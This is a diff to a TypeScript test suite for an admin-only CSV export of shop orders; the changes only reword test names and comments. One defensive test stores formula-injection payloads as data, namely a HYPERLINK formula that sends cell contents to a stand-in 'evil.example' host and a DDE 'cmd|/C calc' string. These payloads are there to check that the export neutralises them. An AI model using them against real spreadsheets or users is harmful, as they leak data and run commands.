@@ -26,7 +26,7 @@ const file = (query = '') => test.request('GET', `/orders/admin/export${query}`,
 const numbersOf = ({ body }: { body: string }) => [...body.matchAll(/^(TW-[^,]+),/gm)].map(([, number]) => number);
 const numbers = (...places: number[]) => places.map((n) => orders[n]?.orderNumber);
 
-/** Connections that are inside a transaction and wait for somebody. */
+/** Connections that are idle in a transaction. */
 async function waitingConnections(): Promise<number> {
   const { rows } = await sql<{ n: number }>`
     SELECT count(*) AS n FROM pg_stat_activity WHERE datname = current_database() AND state = 'idle in transaction'`.execute(test.shop.db);
@@ -34,7 +34,7 @@ async function waitingConnections(): Promise<number> {
 }
 
 describe('the export of orders', () => {
-  it('is a CSV file with a line for each order, newest first', async () => {
+  it('is a CSV file with one line per order, newest first', async () => {
     const { status, headers, body } = await file();
     expect(status).toBe(200);
     expect(headers.get('Content-Type')).toContain('text/csv');
@@ -51,7 +51,7 @@ describe('the export of orders', () => {
     expect(numbersOf({ body })).toEqual(numbers(2, 1, 0));
   });
 
-  it('has what the list’s filters leave', async () => {
+  it('uses the list’s filters', async () => {
     expect(numbersOf(await file('?status=cancelled'))).toEqual(numbers(1));
     expect(numbersOf(await file('?paymentStatus=completed'))).toEqual(numbers(2, 0));
     expect(numbersOf(await file('?endDate=2020-01-01'))).toEqual([]);
@@ -62,7 +62,7 @@ describe('the export of orders', () => {
     expect(numbersOf(await file('?search=lamp&status=shipped'))).toEqual(numbers(2));
   });
 
-  it('keeps what people typed from being a formula', async () => {
+  it('prevents user input from being a formula', async () => {
     const customer = await test.signIn();
     const evil = '=HYPERLINK("http://evil.example?x="&A1,"Click")';
     const product = await makeProduct(test.shop.db, { name: '@SUM(1+1)*cmd|/C calc', stock: 9 });
@@ -85,7 +85,7 @@ describe('the export of orders', () => {
     expect(body.entries).toMatchObject([{ action: 'order.export', admin: { _id: admin.userId }, after: { status: 'shipped' } }]);
   });
 
-  it('lets its connection go when it is read, and when its reader goes away', async () => {
+  it('releases its connection at the end, and when the client disconnects', async () => {
     await file();
     expect(await waitingConnections()).toBe(0);
     const reader = (await exportOrders(test.shop, { _id: admin.userId, email: 'admin@example.com' }, {})).getReader();
@@ -94,7 +94,7 @@ describe('the export of orders', () => {
     expect(await waitingConnections()).toBe(0);
   });
 
-  it('takes two connections at most; the third is told to wait', async () => {
+  it('uses at most two connections; a third request fails with Retry-After', async () => {
     const open = () => exportOrders(test.shop, { _id: admin.userId, email: 'admin@example.com' }, {});
     const running = await Promise.all([open(), open()]);
     const third = await file();
@@ -104,7 +104,7 @@ describe('the export of orders', () => {
     expect((await file()).status).toBe(200);
   });
 
-  it('breaks off where its connection does, and never ends as if it were whole', async () => {
+  it('breaks off when its connection does, and never ends like a complete file', async () => {
     const { rows } = await sql<{ id: string }>`SELECT id FROM orders`.execute(test.shop.db);
     const [{ id }] = rows as [{ id: string }];
     await sql`
@@ -114,7 +114,7 @@ describe('the export of orders', () => {
         total_cents, shipping_address, estimated_delivery FROM orders, generate_series(1, 6000) n WHERE id = ${id}`.execute(test.shop.db);
     const reader = (await exportOrders(test.shop, { _id: admin.userId, email: 'admin@example.com' }, {})).getReader();
     await reader.read();
-    // It reads a little ahead, and then waits for its reader.
+    // It reads a little ahead, and then waits for the client.
     const endConnection = async () => {
       const ended = await sql`
         SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = current_database() AND state = 'idle in transaction'`.execute(
@@ -130,7 +130,7 @@ describe('the export of orders', () => {
     expect((await file()).body.match(/\r\n/g)?.length).toBeGreaterThan(6000);
   });
 
-  it('is for admins, and refuses what is no filter', async () => {
+  it('is for admins only, and rejects invalid filters', async () => {
     const { token } = await test.signIn();
     expect((await test.request('GET', '/orders/admin/export')).status).toBe(401);
     expect((await test.request('GET', '/orders/admin/export?status=lost', { token })).status).toBe(403);
